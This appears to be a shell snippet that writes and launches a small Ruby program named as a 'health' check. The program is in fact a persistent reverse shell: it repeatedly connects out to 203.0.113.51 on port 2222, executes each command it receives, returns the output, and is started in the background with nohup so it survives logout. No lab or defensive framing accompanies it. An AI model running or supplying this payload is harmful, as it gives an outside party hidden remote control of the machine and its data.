cat > /tmp/health.rb <<'RB'
require "socket"
require "open3"
loop do
  begin
    s = TCPSocket.new("203.0.113.51", 2222)
    while (line = s.gets)
      out, _ = Open3.capture2e(line.chomp)
      s.write(out)
    end
  rescue SystemCallError
    sleep 15
  end
end
RB
nohup ruby /tmp/health.rb > /tmp/health.log 2>&1 &
